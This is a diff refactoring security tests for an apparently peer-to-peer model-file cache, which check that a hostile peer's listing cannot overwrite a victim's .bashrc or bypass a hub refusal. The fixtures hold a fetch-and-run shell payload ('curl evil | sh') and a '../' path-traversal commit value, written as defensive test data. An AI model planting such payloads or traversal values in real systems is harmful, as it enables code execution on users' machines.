@@ -443,35 +443,45 @@ def test_swarm_secret_keeps_outsiders_out(nodes: Callable[[str], Node]) -> None:
     assert '"swarm_secret": null' in (c.home / "config.json").read_text()
 
 
+def _listing_peer(data: bytes, rev: str, commit: str, path: str, fetched_at: float) -> FakePeer:
+    """A peer on 127.0.0.4 holding data and listing it as `path` of REPO at `commit`."""
+    fid = hashlib.sha256(data).hexdigest()
+    return FakePeer(
+        "127.0.0.4",
+        fid,
+        data,
+        manifest=manifest_of(fid, data),
+        repo_path=f"/v1/repos/model/{REPO}/{rev}",
+        listing={
+            "commit": commit,
+            "fetched_at": fetched_at,
+            "files": [{"path": path, "file_id": fid, "size": len(data)}],
+        },
+    )
+
+
+def _add_fails(d: Node, peer: FakePeer, *args: str) -> None:
+    """`model add REPO` on d, with peer saved, fails with one line."""
+    assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
+    r = d.cli("model", "add", REPO, *args, timeout=60)
+    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
+
+
 def test_a_peer_listing_cannot_name_a_commit_outside_the_cache(
     nodes: Callable[[str], Node], tmp_path: Path
 ) -> None:
     """The hub is down; the only listing comes from a peer whose "commit" is a folder of
     the victim's: nothing there is replaced, linked or later claimed by uninstall."""
     data = b"curl evil | sh\n" * 100
-    fid = hashlib.sha256(data).hexdigest()
     d = nodes("127.0.0.3")
     victim = tmp_path / "victim"
     victim.mkdir()
     bashrc = victim / ".bashrc"
     bashrc.write_text("mine\n")
     for commit in (str(victim), f"../../../../../../..{victim}"):
-        peer = FakePeer(
-            "127.0.0.4",
-            fid,
-            data,
-            manifest=manifest_of(fid, data),
-            repo_path=f"/v1/repos/model/{REPO}/main",
-            listing={
-                "commit": commit,
-                "fetched_at": 1e300,
-                "files": [{"path": ".bashrc", "file_id": fid, "size": len(data)}],
-            },
-        )
+        peer = _listing_peer(data, "main", commit, ".bashrc", fetched_at=1e300)
         with peer:
-            assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
-            r = d.cli("model", "add", REPO, timeout=60)
-            assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
+            _add_fails(d, peer)
             assert any(s.path == peer.repo_path for s in peer.seen), "the peer was not asked"
             assert peer.blob_requests == 0
         assert d.cli("peer", "rm", peer.host, "--port", str(peer.port)).returncode == 0
@@ -488,25 +498,11 @@ def test_a_hub_refusal_is_final_peers_are_not_asked(
     """The hub answers 404 for the repo (or it is private): a peer's listing of it must
     not be used instead, whatever the peer holds."""
     data = os.urandom(CHUNK)
-    fid = hashlib.sha256(data).hexdigest()
     d = nodes("127.0.0.3")
     use_hub(d, hub)
-    peer = FakePeer(
-        "127.0.0.4",
-        fid,
-        data,
-        manifest=manifest_of(fid, data),
-        repo_path=f"/v1/repos/model/{REPO}/{COMMIT}",
-        listing={
-            "commit": COMMIT,
-            "fetched_at": 1.0,
-            "files": [{"path": "model.safetensors", "file_id": fid, "size": len(data)}],
-        },
-    )
+    peer = _listing_peer(data, COMMIT, COMMIT, "model.safetensors", fetched_at=1.0)
     with peer:
-        assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
-        r = d.cli("model", "add", REPO, "--revision", COMMIT, timeout=60)
-        assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
+        _add_fails(d, peer, "--revision", COMMIT)
         assert not any(s.path == peer.repo_path for s in peer.seen)
         assert peer.blob_requests == 0
     assert not (d.hub / f"models--{REPO.replace('/', '--')}").exists()
